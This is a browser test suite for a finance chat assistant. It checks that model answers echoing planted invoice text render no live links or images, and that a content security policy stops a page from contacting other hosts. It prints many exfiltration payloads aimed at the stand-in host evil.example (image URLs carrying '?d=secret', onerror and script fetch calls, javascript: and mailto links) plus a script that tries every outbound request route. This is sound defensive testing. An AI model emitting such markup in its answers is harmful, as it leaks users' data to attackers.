"""Nothing leaves by the page: no request to another host, no live link in what a model said, a policy behind both."""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.support.assistant import QUICK, RunningAssistant, run_assistant
from tests.support.browser import chromium, visitor
from tests.support.reckoning import Ledger
from tests.support.talking_model import TalkingModel, talking_model

__all__ = ["chromium"]
pytestmark = pytest.mark.browser

EVIL = "evil.example"
PLANTED = f"""\
Planted begins.

![a picture](https://{EVIL}/a.png?d=secret) ![by reference][pic] ![no scheme](//{EVIL}/b.png)
[a link](https://{EVIL}/c) [by reference][pay] [pay] [in brackets](<https://{EVIL}/d>) [relative](/logout)
<https://{EVIL}/e> https://{EVIL}/f www.{EVIL}/g HTTP://{EVIL}/h ftp://{EVIL}/i //{EVIL}/j
<img src="https://{EVIL}/k.png"> <img src=x onerror="fetch('https://{EVIL}/l')"> <svg><image href="//{EVIL}/m"/></svg>
<script>fetch("https://{EVIL}/n")</script> <iframe src="https://{EVIL}/o"></iframe>
<link rel=stylesheet href=//{EVIL}/p>
<a href="https://{EVIL}/q" ping="https://{EVIL}/r">html</a> <form action="https://{EVIL}/s"><button>Go</button></form>
mailto:boss@{EVIL}?body=secret <mailto:boss@{EVIL}> [mail](mailto:boss@{EVIL}?body=secret) boss@{EVIL} tel:+4912345
[script](javascript:fetch('https://{EVIL}/t')) [data](data:text/html,<script>1</script>)
![data](data:image/svg+xml,%3Csvg/%3E)
A footnote[^1] and [another][^2] and ^[inline [x](https://{EVIL}/u)].
$$\\href{{https://{EVIL}/v}}{{x}} \\includegraphics{{https://{EVIL}/w}}$$
:::card
[button](https://{EVIL}/x)
:::

| a | b |
|---|---|
| ![x](https://{EVIL}/y) | [x](https://{EVIL}/z) |

```html
<img src="https://{EVIL}/code.png"> https://{EVIL}/code
```

[pic]: https://{EVIL}/ref.png?d=secret
[pay]: https://{EVIL}/ref "title"
[^1]: https://{EVIL}/foot ![x](https://{EVIL}/foot.png)
[^2]: <img src=//{EVIL}/foot2.png>

Planted ends."""
"""What a model says that does what a planted text tells it: every way in which Markdown or HTML names an address."""

LIVE = "a[href], img, picture, image, iframe, object, embed, form, script, style, link, video, audio, [ping], [onerror]"
NOTE_VIOLATIONS = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective));
"""


@pytest.fixture(scope="module")
def model() -> Iterator[TalkingModel]:
    with talking_model() as server:
        yield server


@pytest.fixture(scope="module")
def product(model: TalkingModel) -> Iterator[RunningAssistant]:
    with run_assistant({**QUICK, "OPENAI_BASE_URL": model.url, "OPENAI_API_KEY": "of-this-test"}) as running:
        yield running


def violations(page: Page) -> list[str]:
    """What the page's policy has stopped since it was loaded."""
    found: list[str] = page.evaluate("window.stopped")
    return found


def answer(page: Page, end: str) -> Locator:
    """The whole answer that ends so."""
    return page.locator("[data-step-type='assistant_message'] .prose").filter(has_text=end).last


@pytest.mark.parametrize("again", [False, True], ids=["streamed", "reloaded"])
def test_what_a_model_says_has_no_live_address(
    chromium: Browser, product: RunningAssistant, model: TalkingModel, *, again: bool
) -> None:
    model.words = PLANTED
    with visitor(chromium, product) as anna:
        anna.page.add_init_script(NOTE_VIOLATIONS)
        anna.sign_in("Anna Albrecht")
        anna.say("What does the note on the invoice say?")
        words = answer(anna.page, "Planted ends.")
        expect(words).to_be_visible()
        if again:
            anna.page.wait_for_url("**/thread/*")
            anna.page.reload()
            expect(words).to_be_visible()
        expect(words).to_contain_text(f"{EVIL}/a.png")
        assert words.locator(LIVE).evaluate_all("found => found.map((one) => one.outerHTML)") == []
        # Only a mail address may have been taken for a link at all, and it lost what would open.
        assert set(words.locator("a").all_inner_texts()) <= {f"boss@{EVIL}"}
        assert violations(anna.page) == [], "only the policy kept it back"
        assert [url for url in anna.asked if EVIL in url] == []


TRIES = """
(elsewhere) => {
const add = (tag, more, into = document.body) => into.append(Object.assign(document.createElement(tag), more));
for (const tag of ["img", "script", "iframe", "video", "embed"]) add(tag, { src: `${elsewhere}/${tag}` });
add("object", { data: `${elsewhere}/object` });
add("link", { rel: "stylesheet", href: `${elsewhere}/sheet` }, document.head);
const font = `@font-face { font-family: evil; src: url(${elsewhere}/font) }`;
const body = `body { font-family: evil; background: url(${elsewhere}/back) }`;
add("style", { textContent: font + body }, document.head);
fetch(`${elsewhere}/fetch`).catch(() => 0);
try { new WebSocket(elsewhere.replace("http", "ws")); } catch { /* some browsers throw */ }
navigator.sendBeacon(`${elsewhere}/beacon`);
const form = Object.assign(document.createElement("form"), { action: `${elsewhere}/form` });
document.body.append(form);
form.submit();
}
"""
"""Every way out of a page that a script could try, were one ever to run."""
KEPT_BACK = (
    "img-src",
    "script-src-elem",
    "frame-src",
    "media-src",
    "object-src",
    "style-src-elem",
    "font-src",
    "connect-src",
    "form-action",
)


def test_the_policy_keeps_back_what_would_still_be_live(
    chromium: Browser, product: RunningAssistant, model: TalkingModel
) -> None:
    with visitor(chromium, product) as anna:
        anna.page.add_init_script(NOTE_VIOLATIONS)
        anna.sign_in("Anna Albrecht")
        model.asked.clear()
        anna.page.evaluate(TRIES, model.address)
        for directive in KEPT_BACK:
            anna.page.wait_for_function("directive => window.stopped.includes(directive)", arg=directive)
        assert model.asked == [], "the page reached another host"
        anna.asked.clear()  # what was tried and kept back counts as asked there


OUTSIDE = """
() => [
  ...performance.getEntriesByType("resource").map((entry) => entry.name),
  ...[...document.querySelectorAll("[src], link[href]")].map((one) => one.src || one.href),
  ...[...document.styleSheets].map((sheet) => sheet.href)
].filter((url) => url && !/^(data|blob):/.test(url) && new URL(url, location.href).host !== location.host)
"""


def test_every_page_asks_only_ourselves(chromium: Browser, assistant: RunningAssistant) -> None:
    """The login, the chat with a table and a card, and the page of a step-up that does not count; `visitor` also looks
    at every request that left for anywhere."""
    bill = Ledger(assistant.sandbox["xero"]).new_bill("61.00", contact="Bergmann Druck")
    with visitor(chromium, assistant) as anna:
        page = anna.page
        page.add_init_script(NOTE_VIOLATIONS)
        page.goto(f"{assistant.url}/login")
        page.wait_for_load_state("networkidle")
        assert page.evaluate(OUTSIDE) == []
        anna.sign_in("Anna Albrecht")
        anna.say("What is overdue?")
        expect(page.locator(".fin-table")).to_be_visible()
        anna.say(f"Pay bill {bill.number}")
        card = page.locator(".fin-card[data-face='mine']")
        expect(card).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert page.evaluate(OUTSIDE) == []
        fonts = page.evaluate(
            "[...document.fonts].filter((font) => font.status === 'error').map((font) => font.family)"
        )
        assert fonts == []
        assert violations(page) == []
        card.get_by_role("button", name="Cancel").click()
        expect(page.locator(".fin-card[data-face='cancelled']")).to_be_visible()
        page.goto(f"{assistant.url}/step-up/{uuid.uuid4()}?digest={'0' * 64}")
        expect(page.get_by_role("heading", name="Nothing was confirmed")).to_be_visible()
        assert page.evaluate(OUTSIDE) == []
